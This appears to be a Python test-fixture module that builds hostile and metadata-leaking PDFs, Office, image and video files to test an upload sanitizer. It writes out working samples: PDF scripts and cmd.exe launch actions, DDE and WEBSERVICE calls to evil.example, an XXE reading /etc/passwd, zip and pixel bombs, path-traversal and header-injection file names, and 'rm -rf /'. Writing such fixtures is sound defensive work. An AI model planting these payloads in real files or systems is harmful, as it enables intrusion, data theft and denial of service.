"""Files that mean harm or tell too much, made here: none of them lies ready-made in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image

SCRIPT = b"<script>alert(1)</script>"
MARK = b"MIRA-REXHEPI-59.3293N"  # stands for whatever tells who, where or when
# The antivirus industry's harmless test word, in two halves so that no scanner takes this file for it.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OFFICE_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
GENTLE_XML = b'<?xml version="1.0" encoding="UTF-8"?><x/>'

# --- Pictures


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **said) -> bytes:
    target = io.BytesIO()
    if kind == "HEIF":
        from pillow_heif import register_heif_opener

        register_heif_opener()
    Image.linear_gradient("L").resize(size).convert("RGB").save(target, kind, **said)
    return target.getvalue()


def place_and_camera(turned: int = 1) -> Image.Exif:
    """What a phone writes into a photograph."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0112], exif[0x013B] = MARK.decode(), turned, MARK.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (59.0, 19.0, 45.0), 3: "E", 4: (18.0, 4.0, 7.0), 29: MARK.decode()})
    return exif


def png_chunks(*chunks: tuple[bytes, bytes]) -> bytes:
    said = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + said


def pixel_bomb(side: int = 20_000) -> bytes:
    """A small file that unpacks to 400 million points."""
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compressobj(9)
    body = b"".join(rows.compress(bytes(1 + side // 8)) for _row in range(side)) + rows.flush()
    return png_chunks((b"IHDR", head), (b"IDAT", body), (b"IEND", b""))


def talking_png() -> bytes:
    parts = picture("PNG")
    told = png_chunks((b"tEXt", b"Author\0" + MARK), (b"eXIf", b"MM\0*" + MARK), (b"tEXt", b"x\0" + SCRIPT))[8:]
    return parts[:33] + told + parts[33:] + SCRIPT


def gif_and_script() -> bytes:
    return b"GIF89a/*" + bytes(20) + b"*/=1;" + SCRIPT


# --- PDF


def pdf(change: Callable[[Pdf], object] = lambda made: None, **saving) -> bytes:
    """A page with a word on it, and what `change` does to it."""
    made = Pdf.new()
    page = made.add_blank_page(page_size=(300, 200))
    page.Contents = made.make_stream(b"BT /F1 12 Tf 20 100 Td (Seen on paper) Tj ET")
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    change(made)
    target = io.BytesIO()
    made.save(target, compress_streams=False, **saving)
    return target.getvalue()


def script_action() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert('" + MARK.decode() + "')"))


def opens_script(made: Pdf) -> None:
    made.Root.OpenAction = script_action()


def reacts(made: Pdf) -> None:
    made.Root.AA = Dictionary(WC=script_action())
    made.pages[0].AA = Dictionary(O=script_action())


def named_scripts(made: Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), script_action()])))


def _link(made: Pdf, action: Dictionary) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 300, 200]), A=action)
    made.pages[0].Annots = made.make_indirect(Array([made.make_indirect(note)]))


def launches(made: Pdf) -> None:
    _link(made, Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe " + MARK.decode())))


def leads_out(made: Pdf) -> None:
    _link(made, Dictionary(S=Name.URI, URI=pikepdf.String("https://evil.example/" + MARK.decode())))


def submits(made: Pdf) -> None:
    _link(made, Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://evil.example/" + MARK.decode())))


def wraps_file(made: Pdf) -> None:
    made.attachments["evil.exe"] = b"MZ" + MARK


def form(made: Pdf, **more) -> None:
    """A field that shows what was typed, with a script behind it."""
    look = made.make_stream(b"/Tx BMC BT /F1 12 Tf 2 2 Td (Typed into the form) Tj ET EMC")
    look.update(Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 200, 20])))
    look.Resources = made.pages[0].Resources
    field = made.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            F=4,
            T=pikepdf.String("t"),
            V=pikepdf.String("Typed into the form"),
            A=script_action(),
            Rect=Array([20, 20, 220, 40]),
            AP=Dictionary(N=look),
        )
    )
    made.pages[0].Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]), **more)


def xfa_form(made: Pdf) -> None:
    form(made, XFA=made.make_stream(b"<xdp:xdp>" + MARK + b"</xdp:xdp>"))


def only_xfa(made: Pdf) -> None:
    xfa_form(made)
    made.Root.NeedsRendering = True


def tells_author(made: Pdf) -> None:
    made.docinfo["/Author"] = MARK.decode()
    made.Root.Metadata = made.make_stream(b"<x:xmpmeta>" + MARK + b"</x:xmpmeta>")
    made.pages[0].PieceInfo = Dictionary(App=Dictionary(Private=pikepdf.String(MARK.decode())))
    made.pages[0].Resources.Font.F1.Metadata = made.make_stream(MARK)


def is_a_map(made: Pdf) -> None:
    """A page may say which piece of the earth it shows, and carry a small picture of what it once showed."""
    made.pages[0].VP = Array([Dictionary(Type=Name.Viewport, Name=pikepdf.String(MARK.decode()))])
    made.pages[0].Thumb = made.make_stream(MARK)


def photo_in_page(made: Pdf, filters: object = None, wrap: Callable[[bytes], bytes] = lambda raw: raw) -> None:
    """A photograph as a phone's scanner app puts it in: with place, camera and a script behind it."""
    raw = picture(exif=place_and_camera(), comment=MARK) + SCRIPT
    photo = pikepdf.Stream(made, wrap(raw))
    photo.update(Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=64, Height=48, BitsPerComponent=8))
    photo.ColorSpace, photo.Filter = Name.DeviceRGB, filters or Name.DCTDecode
    photo.Metadata = made.make_stream(MARK)
    made.pages[0].Resources.XObject = Dictionary(A=photo)  # a resource may well be called A
    made.pages[0].contents_add(b" q 100 0 0 75 20 20 cm /A Do Q")


def wrapped_photo(made: Pdf) -> None:
    photo_in_page(made, Array([Name.FlateDecode, Name.DCTDecode]), zlib.compress)


def content_elsewhere(made: Pdf) -> None:
    stream = pikepdf.Stream(made, b"")
    stream.F = Dictionary(Type=Name.Filespec, F=pikepdf.String("//evil.example/" + MARK.decode()))
    made.pages[0].Resources.XObject = Dictionary(X=stream)


def locked(**passwords: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(**passwords))


# --- Office


def packed(parts: dict[str, bytes], comment: bytes = b"") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            kind = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            made.writestr(zipfile.ZipInfo(name), content, kind)
        made.comment = comment
    return target.getvalue()


def _rels(*relations: str) -> bytes:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{space}">{"".join(relations)}</Relationships>'.encode()


def relation(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="r1" Type="{OFFICE_RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def docx(more: dict[str, bytes] | None = None, body: bytes = b"<w:p/>", comment: bytes = b"") -> bytes:
    space = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return packed(
        {
            "[Content_Types].xml": GENTLE_XML,
            "_rels/.rels": _rels(),
            "word/document.xml": b'<?xml version="1.0"?><w:document ' + space + b">" + body + b"</w:document>",
            **(more or {}),
        },
        comment,
    )


def xlsx(more: dict[str, bytes] | None = None, formula: bytes = b"SUM(A1:A9)") -> bytes:
    sheet = b'<worksheet xmlns="m"><sheetData><row><c><f>' + formula + b"</f></c></row></sheetData></worksheet>"
    return packed(
        {
            "[Content_Types].xml": GENTLE_XML,
            "_rels/.rels": _rels(),
            "xl/workbook.xml": GENTLE_XML,
            "xl/worksheets/sheet1.xml": sheet,
            **(more or {}),
        }
    )


def odt(body: bytes = b"", more: dict[str, bytes] | None = None) -> bytes:
    spaces = (
        b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
        b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:text="t" xmlns:draw="d"'
    )
    content = b"<office:document-content " + spaces + b">" + body + b"</office:document-content>"
    return packed(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "META-INF/manifest.xml": GENTLE_XML,
            **(more or {}),
        }
    )


def instructed(field: str) -> bytes:
    """A Word file with a field."""
    return docx(body=b"<w:p><w:instrText>" + field.encode() + b"</w:instrText></w:p>")


def two_fields() -> bytes:
    """Their instructions stand behind each other without a blank."""
    edge = b"<w:fldChar/>"
    fields = (b"<w:instrText>PAGE</w:instrText>", b"<w:instrText>DDEAUTO c:/x</w:instrText>")
    return docx(body=b"".join(edge + field + edge for field in fields))


def showing(address: str) -> bytes:
    """An OpenDocument with a picture from that address."""
    return odt(b'<draw:image xlink:href="' + address.encode() + b'"/>')


def zip_bomb() -> bytes:
    """A docx of some 200 KB that unpacks to 201 MB; it lies about it too."""
    return docx({f"word/media/{number}.bin": bytes(67 * 1024**2) for number in range(3)})


def lying_zip_bomb() -> bytes:
    honest = docx({"word/media/1.bin": bytes(210 * 1024**2)})
    return honest.replace(struct.pack("<I", 210 * 1024**2), struct.pack("<I", 1000))


def xxe() -> bytes:
    return docx({"word/settings.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'})


def xxe_in_utf16() -> bytes:
    part = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "lol">]><x>&e;</x>'
    return docx({"word/settings.xml": part.encode("utf-16")})


def talking_docx() -> bytes:
    core = b"<cp:coreProperties xmlns:cp='x'><creator>" + MARK + b"</creator></cp:coreProperties>"
    photo = picture(exif=place_and_camera(), comment=MARK) + SCRIPT
    more = {"docProps/core.xml": core, "docProps/app.xml": core, "docProps/custom.xml": core}
    more |= {"word/media/image1.jpeg": photo, "word/media/image2.png": talking_png()}
    return docx(more, comment=SCRIPT) + SCRIPT


# --- Films


def box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", 8 + len(content)) + kind + content


def film(*top: bytes, brand: bytes = b"mp42", inside: bytes = b"") -> bytes:
    times = struct.pack(">IIIII", 0, 3_900_000_000, 3_900_000_001, 600, 0) + bytes(80)
    track = box(b"trak", box(b"tkhd", times) + box(b"udta", box(b"name", MARK)))
    moov = box(b"moov", box(b"mvhd", times) + track + inside)
    return box(b"ftyp", brand + b"\0\0\0\0" + brand + b"isom") + moov + b"".join(top) + box(b"mdat", b"picture" * 9)


def talking_film(brand: bytes = b"mp42") -> bytes:
    place = box(b"udta", box(b"\xa9xyz", b"\0\x15\x15\xc7" + MARK) + box(b"meta", MARK))
    return film(box(b"free", SCRIPT), box(b"uuid", MARK * 2), box(b"junk", SCRIPT), brand=brand, inside=place)


# --- The corpus


@dataclass(frozen=True)
class Hostile:
    """A file, and what must become of it: refused, or given out without what it tells or does."""

    story: str
    name: str
    make: Callable[[], bytes]
    # Why: a word of the rewriting, or "kind", "name", "empty".
    refused: str = ""


ACTIVE_IN_PDF = (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/Launch", b"/URI", b"/SubmitForm", b"/EmbeddedFile")
ACTIVE_IN_PDF += (b"/Names", b"/AcroForm", b"/XFA", b"/Annots", b"/Metadata", b"/Author", b"/PieceInfo", b"/Info")
# What may stand in nothing that is given out.
NEVER = (SCRIPT, MARK, b"<script", b"Exif\0", b"evil.example", b"GPSLatitude")


def _no(refused: str, story: str, name: str, make: Callable[[], bytes]) -> Hostile:
    return Hostile(story, name, make, refused)


CORPUS = [
    # One thing outside, another inside
    _no("name", "GIF that is a script too, as a photograph", "photo.jpg", gif_and_script),
    _no("kind", "GIF that is a script too", "photo.gif", gif_and_script),
    _no("name", "PDF that is a zip too", "plan.pdf", lambda: pdf() + docx()),
    _no("name", "web page as a photograph", "photo.jpg", lambda: b"<!doctype html><html>" + SCRIPT),
    _no("name", "web page as text", "note.txt", lambda: b"<!doctype html><html><body>" + SCRIPT),
    _no("name", "web page as PDF", "plan.pdf", lambda: b"<!doctype html><html>" + SCRIPT),
    _no("kind", "drawing with a script", "map.svg", lambda: b"<svg onload='alert(1)'/>"),
    _no("name", "drawing with a script as a photograph", "map.png", lambda: b"<svg xmlns='s' onload='alert(1)'/>"),
    _no("name", "program as text", "note.txt", lambda: b"MZ\x90\0" + bytes(200)),
    _no("name", "shell script as text", "note.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
    _no("kind", "program", "photo.jpg.exe", lambda: b"MZ" + bytes(200)),
    _no("empty", "nothing", "empty.pdf", lambda: b""),
    _no("name", "text with a zero in it", "note.txt", lambda: b"hello\0" + SCRIPT),
    _no("not_utf8", "text that steers a terminal", "note.txt", lambda: b"hello \x1b]0;owned\x07 there"),
    _no("not_utf8", "text in another alphabet's bytes", "note.txt", lambda: "på".encode("latin-1")),
    # Pictures
    Hostile("photograph with place and camera", "photo.jpg", lambda: picture(exif=place_and_camera(6))),
    Hostile("photograph with a remark", "photo.jpeg", lambda: picture(comment=MARK)),
    Hostile("photograph with a script behind it", "photo.jpg", lambda: picture() + SCRIPT),
    Hostile("screenshot with words in it", "screen.png", talking_png),
    Hostile("WebP with place", "photo.webp", lambda: picture("WEBP", exif=place_and_camera())),
    Hostile("HEIC with place", "photo.heic", lambda: picture("HEIF", exif=place_and_camera().tobytes())),
    _no("too_many_pixels", "400 million points", "bomb.png", pixel_bomb),
    _no("broken", "half a photograph", "photo.jpg", lambda: picture(size=(640, 480))[:4000]),
    _no("broken", "half a screenshot", "screen.png", lambda: picture("PNG", (640, 480))[:600]),
    _no("broken", "head of a photograph", "photo.jpg", lambda: picture()[:200]),
    _no("broken", "head of a HEIC", "photo.heic", lambda: picture("HEIF")[:300]),
    # PDF
    Hostile("PDF that runs a script when opened", "plan.pdf", lambda: pdf(opens_script)),
    Hostile("PDF that runs a script when closed", "plan.pdf", lambda: pdf(reacts)),
    Hostile("PDF with named scripts", "plan.pdf", lambda: pdf(named_scripts)),
    Hostile("PDF that starts a program", "plan.pdf", lambda: pdf(launches)),
    Hostile("PDF that leads out", "plan.pdf", lambda: pdf(leads_out)),
    Hostile("PDF that sends what it holds", "plan.pdf", lambda: pdf(submits)),
    Hostile("PDF with a program in it", "plan.pdf", lambda: pdf(wraps_file)),
    Hostile("PDF form with a script", "plan.pdf", lambda: pdf(form)),
    Hostile("PDF form of the other kind", "plan.pdf", lambda: pdf(xfa_form)),
    _no("pdf_form", "PDF that is nothing but such a form", "plan.pdf", lambda: pdf(only_xfa)),
    Hostile("PDF that tells its author", "plan.pdf", lambda: pdf(tells_author)),
    Hostile("PDF that says where on earth it is", "plan.pdf", lambda: pdf(is_a_map)),
    Hostile("PDF with a photograph with place", "plan.pdf", lambda: pdf(photo_in_page)),
    Hostile("PDF with a wrapped photograph with place", "plan.pdf", lambda: pdf(wrapped_photo)),
    Hostile("PDF whose picture lies on another machine", "plan.pdf", lambda: pdf(content_elsewhere)),
    Hostile("PDF with an older state", "plan.pdf", lambda: pdf() + b"9 0 obj<</JS(" + MARK + b")>>endobj\n%%EOF\n"),
    _no("encrypted", "PDF locked with a password", "plan.pdf", lambda: locked(owner="a", user="b")),
    _no("encrypted", "PDF locked for its owner", "plan.pdf", lambda: locked(owner="a", user="")),
    _no("broken", "half a PDF", "plan.pdf", lambda: pdf(tells_author)[:700]),
    _no(
        "broken",
        "PDF without a page",
        "plan.pdf",
        lambda: b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    ),
    # Office
    _no(
        "macros", "Word with macros, renamed", "letter.docx", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    ),
    _no("kind", "Word with macros", "letter.docm", lambda: docx({"word/vbaProject.bin": b"x"})),
    _no("macros", "Word with ActiveX", "letter.docx", lambda: docx({"word/activeX/activeX1.xml": GENTLE_XML})),
    _no(
        "calls_out",
        "Word that fetches its template",
        "letter.docx",
        lambda: docx(
            {"word/_rels/settings.xml.rels": _rels(relation("attachedTemplate", "https://evil.example/t.dotm"))}
        ),
    ),
    _no(
        "calls_out",
        "Word with a link to a program",
        "letter.docx",
        lambda: docx({"word/_rels/document.xml.rels": _rels(relation("hyperlink", "file:///c:/evil.exe"))}),
    ),
    _no(
        "calls_out",
        "Word that starts a program",
        "letter.docx",
        lambda: docx(body=b"<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd /c calc</w:instrText>"),
    ),
    *(
        _no("calls_out", f"Word that fetches or starts: {field}", "letter.docx", partial(instructed, field))
        for field in (
            'ddeauto c:\\\\x "a"',
            'IncludePicture "http://evil.example/x.png" \\d',
            "includetext c:/x",
            "Link Excel.Sheet.8 x",
        )
    ),
    _no("calls_out", "Word that starts a program in its second field", "letter.docx", two_fields),
    _no(
        "calls_out",
        "Word that fetches, said with blanks",
        "letter.docx",
        lambda: docx({"word/_rels/a.xml.rels": _rels(relation("image", "https://evil.example/a", " External "))}),
    ),
    _no("entities", "Word with an entity", "letter.docx", xxe),
    _no("entities", "Word with an entity, written wide", "letter.docx", xxe_in_utf16),
    _no("wrapped", "Word with a program in it", "letter.docx", lambda: docx({"word/media/a.bin": b"MZ" + MARK})),
    _no("wrapped", "Word with a zip in it", "letter.docx", lambda: docx({"word/embeddings/a.xlsx": xlsx()})),
    _no("wrapped", "Word with a web page in it", "letter.docx", lambda: docx({"word/afchunk.html": SCRIPT})),
    _no(
        "too_large_unpacked",
        "Word with too many parts",
        "letter.docx",
        lambda: docx({f"word/{n}.xml": GENTLE_XML for n in range(200)}),
    ),
    _no("too_large_unpacked", "Word that unpacks to 200 MB", "letter.docx", zip_bomb),
    _no("broken", "Word that lies about what it unpacks to", "letter.docx", lying_zip_bomb),
    _no(
        "broken",
        "Word that climbs out of its folder",
        "letter.docx",
        lambda: docx({"../../etc/cron.d/evil.xml": GENTLE_XML}),
    ),
    _no("broken", "zip that says it is Word", "letter.docx", lambda: packed({"a.xml": GENTLE_XML})),
    _no("broken", "half a Word file", "letter.docx", lambda: talking_docx()[:900]),
    Hostile("Word that tells its author and place", "letter.docx", talking_docx),
    _no("macros", "Excel with links", "list.xlsx", lambda: xlsx({"xl/externalLinks/externalLink1.xml": GENTLE_XML})),
    _no("macros", "Excel with old macros", "list.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": GENTLE_XML})),
    _no(
        "calls_out",
        "Excel that calls home",
        "list.xlsx",
        lambda: xlsx(formula=b'WEBSERVICE("https://evil.example/"&amp;A1)'),
    ),
    _no("macros", "OpenDocument with macros", "text.odt", lambda: odt(more={"Basic/Standard/Module1.xml": GENTLE_XML})),
    _no("macros", "OpenDocument that reacts", "text.odt", lambda: odt(b"<script:event-listener/>")),
    _no(
        "calls_out",
        "OpenDocument that fetches",
        "text.odt",
        lambda: odt(b'<draw:image xlink:href="https://evil.example/a"/>'),
    ),
    *(
        _no("calls_out", f"OpenDocument that fetches {address!r}", "text.odt", partial(showing, address))
        for address in (
            " http://evil.example/a",
            "&#9;http://evil.example/a",
            "&#160;file:///c:/a",
            "\\\\evil.example\\share\\x",
            "\\evil\\share\\x",
            "Pictures/../../../x",
            "Pictures\\..\\..\\x",
            "Pictures/%2e%2e/%2E%2E/x",
            "..",
        )
    ),
    Hostile("OpenDocument that tells its author", "text.odt", lambda: odt(more={"meta.xml": b"<m>" + MARK + b"</m>"})),
    # Films
    Hostile("film with place and a web page in it", "film.mp4", talking_film),
    Hostile("recording with place", "voice.m4a", lambda: talking_film(b"M4A ")),
    _no("broken", "film with something behind it", "film.mp4", lambda: film() + SCRIPT),
    _no("broken", "half a film", "film.mp4", lambda: film()[:-20]),
]

# Name as sent, and what it may look like on a screen.
NAMES = [
    ("../../../etc/passwd.txt", "passwd.txt"),
    ("..\\..\\windows\\system32\\evil.txt", "evil.txt"),
    ("C:\\Users\\Sara\\brev.txt", "brev.txt"),
    ("/etc/cron.d/evil.txt", "evil.txt"),
    ("brev\r\nSet-Cookie: a=b.txt", "brevSet-Cookie a=b.txt"),
    ("brev\0.txt", "brev.txt"),
    ("fdp\u202etxt.txt", "fdptxt.txt"),
    ("a\u200b\u2066b\u2069.txt", "ab.txt"),
    ('a"b<c>|.txt', "abc.txt"),
    (" .hemligt brev å.txt ", "hemligt brev å.txt"),
    ("x" * 300 + ".txt", "x" * 116 + ".txt"),
    ("نامه 💌.txt", "نامه 💌.txt"),
    ("brev%2e%2e%2fevil.txt", "brev%2e%2e%2fevil.txt"),
    ("photo.jpg.txt", "photo.jpg.txt"),
]
